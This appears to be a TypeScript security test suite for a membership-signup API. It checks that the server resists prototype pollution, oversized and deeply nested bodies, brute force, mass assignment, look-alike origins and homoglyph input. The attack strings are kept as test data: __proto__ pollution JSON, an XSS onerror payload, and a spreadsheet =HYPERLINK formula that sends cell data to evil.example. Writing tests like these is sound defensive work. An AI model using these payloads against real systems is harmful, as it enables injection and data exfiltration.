/**
 * Abuse, in depth: prototype-pollution keys, deep nesting, mass assignment, a 10 MB body,
 * look-alike origins, homoglyph and zero-width input, HTML and spreadsheet-formula payloads kept as
 * data (admin JSON, CSV export, invitation mail), and the QR code as SVG and PNG.
 */
import assert from 'node:assert/strict';
import { request as httpRequest } from 'node:http';
import { before, describe, test } from 'node:test';
import { AuthResult, paths, type Profile } from '../../src/api/contract.ts';
import { ConstituentGrid } from '../../src/api/admin.ts';
import { csvCell } from '../../server/domain/constituents.ts';
import { createApp } from '../../server/app.ts';
import { parseTrustProxy } from '../../server/routes/http.ts';
import { DEFAULT_RATE_LIMITS } from '../../server/domain/ratelimit.ts';
import { ORG, authResult, errorCode, errorFields, uniqueEmail, serverForFile } from './helpers.ts';

const KEY = 'abuse-admin-key-0123456789';
const admin = { authorization: `Bearer ${KEY}` };

const { server, api } = await serverForFile({ adminApiKeys: { [ORG]: KEY } });

const json = { 'content-type': 'application/json' };

describe('hostile JSON', () => {
  test('__proto__ and constructor keys are data, never prototype pollution', async () => {
    const email = uniqueEmail('proto');
    const raw = `{"kind":"individual","firstName":"Pro","lastName":"To","email":"${email}","__proto__":{"polluted":"yes","isAdmin":true},"constructor":{"prototype":{"polluted2":"yes"}}}`;
    const r = await api.request('POST', paths.signup(ORG), { raw, headers: json });
    assert.equal(r.status, 202, r.text);
    const { result } = await api.newAccount();
    const patch = await api.request('PATCH', paths.me(ORG), {
      raw: '{"__proto__":{"polluted":"yes"},"firstName":"Still"}',
      headers: { ...json, ...api.bearer(result.session.accessToken) },
    });
    assert.equal(patch.status, 200, patch.text);
    assert.equal((patch.body as Profile).constituent.firstName, 'Still');
    const probe = {} as Record<string, unknown>;
    assert.equal(probe.polluted, undefined);
    assert.equal(probe.isAdmin, undefined);
    assert.equal(probe.polluted2, undefined);
    assert.equal(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted'), false);
  });

  test('deeply nested bodies are refused or stripped, and the server stays up', async () => {
    const depth = 30_000; // under the 100 kB cap
    const arrays = await api.request('POST', paths.signup(ORG), { raw: '['.repeat(depth) + ']'.repeat(depth), headers: json });
    assert.equal(arrays.status, 400);
    assert.equal(errorCode(arrays), 'invalid_input');
    const unclosed = await api.request('POST', paths.signup(ORG), { raw: '{"a":'.repeat(15_000), headers: json });
    assert.equal(unclosed.status, 400);
    const email = uniqueEmail('nested');
    const inside = `{"kind":"individual","firstName":"Ne","lastName":"St","email":"${email}","extra":${'['.repeat(10_000)}${']'.repeat(10_000)}}`;
    const r = await api.request('POST', paths.signup(ORG), { raw: inside, headers: json });
    assert.equal(r.status, 202, 'unknown keys are stripped without being walked');
    assert.equal((await api.get(paths.portal(ORG))).status, 200);
  });

  test('a 10 MB body is 413 payload_too_large, answered without reading it all', async () => {
    const size = 10 * 1024 * 1024;
    const url = new URL(`${server.url}/${paths.signup(ORG)}`);
    const res = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = httpRequest(url, { method: 'POST', headers: { ...json, 'content-length': String(size) } }, (res) => {
        let body = '';
        res.on('data', (d: Buffer) => (body += d.toString()));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      });
      req.on('error', (err) =>
        (err as NodeJS.ErrnoException).code === 'EPIPE' || (err as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(err),
      );
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      let sent = 0;
      const pump = () => {
        while (sent < size) {
          sent += chunk.length;
          if (!req.write(chunk)) return void req.once('drain', pump);
        }
        req.end();
      };
      pump();
    });
    assert.equal(res.status, 413);
    assert.equal(JSON.parse(res.body).error.code, 'payload_too_large');
  });
});

describe('brute force', () => {
  test('per-account limit holds across many IPs, and then even the right password waits (429 + Retry-After)', async () => {
    const { email, password } = await api.newAccount();
    const app = createApp({
      db: server.db,
      config: {
        production: false,
        tokenSecret: 'abuse',
        rateLimits: { ...DEFAULT_RATE_LIMITS, signInPerEmail: { max: 4, windowSeconds: 120 } },
        trustProxy: parseTrustProxy(undefined),
        refreshGraceSeconds: 0,
        accessTokenSeconds: 300,
        publicUrl: () => 'http://api.example.test',
      },
    });
    const attempt = (pw: string, i: number) =>
      app.request(
        `/${paths.sessions(ORG)}`,
        { method: 'POST', headers: json, body: JSON.stringify({ email: email.toUpperCase(), password: pw }) },
        { incoming: { socket: { remoteAddress: `198.51.100.${i}` } } },
      );
    const statuses: number[] = [];
    for (let i = 0; i < 4; i++) statuses.push((await attempt(`guess number ${i}`, i)).status);
    assert.deepEqual(statuses, [401, 401, 401, 401]);
    const limited = await attempt(password, 99);
    assert.equal(limited.status, 429);
    const retry = Number(limited.headers.get('retry-after'));
    assert.ok(retry > 0 && retry <= 120, String(retry));
    assert.equal((await limited.json()).error.code, 'rate_limited');
  });
});

describe('mass assignment', () => {
  test('sign-up ignores ids, org, verification and role fields', async () => {
    const maria = ConstituentGrid.parse((await api.get(`v1/orgs/${ORG}/admin/constituents?q=maria.garcia`, admin)).body).constituents[0]!;
    const email = uniqueEmail('mass');
    const r = await api.signup({
      firstName: 'Mass',
      lastName: 'Assign',
      email,
      constituentId: maria.id,
      accountId: maria.id,
      orgId: 'northside-choir',
      emailVerified: true,
      role: 'admin',
      outcome: 'linked',
    });
    assert.equal(r.status, 202);
    const done = authResult(await api.complete(await api.latestToken(email)));
    assert.equal(done.outcome, 'created');
    assert.notEqual(done.profile.constituent.id, maria.id);
    assert.equal(done.profile.constituent.firstName, 'Mass');
  });

  test('PATCH /me cannot change the email, kind, ids or memberships', async () => {
    const { email, result } = await api.newAccount();
    const r = await api.request('PATCH', paths.me(ORG), {
      json: {
        email: 'attacker@example.test',
        kind: 'company',
        companyName: 'Evil Corp',
        accountId: '00000000-0000-4000-8000-000000000000',
        constituent: { id: 'x', email: 'attacker@example.test' },
        memberships: [{ name: 'Free Gold', status: 'current' }],
        city: 'Nowhere',
      },
      headers: api.bearer(result.session.accessToken),
    });
    assert.equal(r.status, 200, r.text);
    const p = r.body as Profile;
    assert.equal(p.email, email);
    assert.equal(p.constituent.email, email);
    assert.equal(p.constituent.kind, 'individual');
    assert.equal(p.constituent.companyName, null);
    assert.equal(p.accountId, result.profile.accountId);
    assert.deepEqual(p.memberships, []);
  });
});

describe('look-alike origins', () => {
  test('anything but an exact allowed origin is 403 with no CORS echo', async () => {
    for (const origin of [
      'null',
      'http://localhost:5173.evil.example',
      'http://evil.example?x=http://localhost:5173',
      'https://localhost:5173',
      'http://localhost:5174',
      'http://localhost:5173/',
      'http://LOCALHOST:5173',
      'http://xn--lcalhost-b1a:5173',
      'http://localhost',
      'file://',
    ]) {
      const r = await api.get(paths.portal(ORG), { origin });
      assert.equal(r.status, 403, origin);
      assert.equal(errorCode(r), 'origin_not_allowed', origin);
      assert.equal(r.headers.get('access-control-allow-origin'), null, origin);
      assert.equal(r.headers.get('access-control-allow-credentials'), null, origin);
    }
  });
});

describe('response headers', () => {
  test('every answer (success, error, not found, refused origin, preflight, redirect, image, refused body) is nosniff with a deny-all CSP', async () => {
    const replies = [
      await api.get(paths.portal(ORG)),
      await api.get('nope'),
      await api.get(paths.portal(ORG), { origin: 'https://evil.example' }),
      await api.post(paths.signup(ORG), { kind: 'individual' }),
      await api.get(paths.me(ORG)),
      // Answers built other ways than c.json: a preflight, a redirect, an image, a refused body.
      await api.request('OPTIONS', paths.sessions(ORG), {
        headers: { origin: 'http://localhost:5173', 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
      }),
      await fetch(`${server.url}/${paths.invitationLink(ORG, { token: 'not-a-token' })}`, { redirect: 'manual' }),
      await api.get(paths.portalQrSvg(ORG)),
      await api.request('POST', paths.signup(ORG), { raw: 'x=1', headers: { 'content-type': 'text/plain' } }),
    ];
    assert.deepEqual(
      replies.map((r) => r.status),
      [200, 404, 403, 400, 401, 204, 302, 200, 415],
    );
    for (const r of replies) {
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff', String(r.status));
      assert.equal(r.headers.get('content-security-policy'), "default-src 'none'; frame-ancestors 'none'", String(r.status));
      assert.equal(r.headers.get('referrer-policy'), 'no-referrer');
    }
  });
});

describe('homoglyphs and invisible characters', () => {
  test('homoglyph, zero-width and bidi tricks in emails are invalid_email', async () => {
    for (const email of [
      'm\u0430ria.garcia@example.org',
      'maria\u200b.garcia@example.org',
      'maria.garcia@exampl\u0435.org',
      'maria.garcia@example.org\u202e',
      'maria.garcia\u00ad@example.org',
    ]) {
      const r = await api.signup({ firstName: 'Maria', lastName: 'Garcia', email });
      assert.equal(r.status, 400, JSON.stringify(email));
      assert.equal(errorFields(r)?.email, 'invalid_email', JSON.stringify(email));
    }
  });

  test('zero-width characters in names are refused', async () => {
    for (const name of ['Ma\u200bria', 'Ma\u200dria', 'Ma\ufeffria', 'Ma\u2060ria', 'Ma\u00adria']) {
      const r = await api.signup({ firstName: name, lastName: 'Garcia', email: uniqueEmail('zw') });
      assert.equal(r.status, 400, JSON.stringify(name));
      assert.equal(errorFields(r)?.firstName, 'invalid_characters', JSON.stringify(name));
    }
  });

  test('a homoglyph name with the right email is not linked to the record (possible duplicate instead)', async () => {
    const r = await api.signup({ firstName: 'Mar\u0456a', lastName: 'Garcia', email: 'maria.garcia@example.org' });
    assert.equal(r.status, 202);
    const done = AuthResult.parse((await api.complete(await api.latestToken('maria.garcia@example.org'))).body);
    assert.equal(done.outcome, 'created_possible_duplicate');
    assert.deepEqual(done.profile.memberships, [], "Maria's membership is not shown to the look-alike");
  });
});

describe('HTML and formula payloads are data', () => {
  const first = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  const last = '<img src=x onerror=alert(1)>';
  let id: string;
  let email: string;

  before(async () => {
    email = uniqueEmail('payload');
    const r = await api.post(`dev/orgs/${ORG}/fixtures`, { firstName: first, lastName: last, companyName: '@SUM(1+1)', email, phone: '+1 555 0100' });
    assert.equal(r.status, 201, r.text);
    id = (r.body as { constituentId: string }).constituentId;
  });

  test('stored and returned verbatim by the admin API (JSON)', async () => {
    const grid = ConstituentGrid.parse((await api.get(`v1/orgs/${ORG}/admin/constituents?q=${encodeURIComponent(email)}`, admin)).body);
    assert.equal(grid.constituents[0]!.firstName, first);
    assert.equal(grid.constituents[0]!.lastName, last);
  });

  test('the CSV export neutralises formulas and quotes every cell', async () => {
    const r = await fetch(`${server.url}/v1/orgs/${ORG}/admin/constituents.csv?q=${encodeURIComponent(email)}`, { headers: admin });
    assert.equal(r.status, 200);
    assert.match(r.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(r.headers.get('content-disposition') ?? '', /^attachment;/);
    assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
    const text = await r.text();
    const lines = text.trimEnd().split('\r\n');
    assert.equal(lines.length, 2);
    assert.match(lines[0]!, /^"id","kind","first_name","last_name"/);
    assert.ok(lines[1]!.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`), lines[1]);
    assert.ok(lines[1]!.includes(`"${last}"`), 'HTML is plain text in CSV');
    assert.ok(!/(^|,)"?[=+\-@]/.test(lines[1]!.replace(/"[^"]*"/g, (cell) => (cell.startsWith(`"'`) ? '""' : cell))));
    for (const [v, want] of [
      ['-2+3', `"'-2+3"`],
      ['+1 555', `"'+1 555"`],
      ['\tx', `"'\tx"`],
      ['plain', '"plain"'],
      [null, '""'],
    ] as const) {
      assert.equal(csvCell(v), want);
    }
    const unauth = await api.get(`v1/orgs/${ORG}/admin/constituents.csv`);
    assert.equal(unauth.status, 401);
  });

  test('an invitation mail escapes the payload in HTML and keeps it as text', async () => {
    const r = await api.post(
      `v1/orgs/${ORG}/admin/invitations`,
      { constituentIds: [id], channel: 'email', message: 'Hello {{firstName}} {{lastName}}' },
      admin,
    );
    assert.equal(r.status, 201, r.text);
    const mail = (await api.outbox(email))[0]!;
    assert.ok(mail.text.includes(last), 'plain text keeps it verbatim');
    assert.ok(!(mail.html ?? '').includes('<img src=x'), 'no live markup in HTML');
    assert.ok((mail.html ?? '').includes('&#60;img src=x onerror=alert(1)&#62;'));
  });
});

describe('QR code', () => {
  test('SVG and PNG of the portal URL; the admin portal info links both', async () => {
    const svg = await fetch(`${server.url}/v1/orgs/${ORG}/portal/qr.svg`);
    assert.equal(svg.status, 200);
    assert.match(await svg.text(), /^<svg/);
    const png = await fetch(`${server.url}/v1/orgs/${ORG}/portal/qr.png?size=256`);
    assert.equal(png.status, 200);
    assert.equal(png.headers.get('content-type'), 'image/png');
    const bytes = Buffer.from(await png.arrayBuffer());
    assert.deepEqual([...bytes.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    assert.equal(bytes.readUInt32BE(16), 256, 'width from ?size=');
    const huge = Buffer.from(await (await fetch(`${server.url}/v1/orgs/${ORG}/portal/qr.png?size=999999`)).arrayBuffer());
    assert.equal(huge.readUInt32BE(16), 1024, 'size is clamped');
    const info = (await api.get(`v1/orgs/${ORG}/admin/portal`, admin)).body as { qrCodeUrl: string; qrCodePngUrl: string };
    assert.match(info.qrCodeUrl, /\/portal\/qr\.svg$/);
    assert.match(info.qrCodePngUrl, /\/portal\/qr\.png$/);
    const viaInfo = await fetch(info.qrCodePngUrl);
    assert.equal(viaInfo.status, 200);
    await viaInfo.arrayBuffer();
  });
});
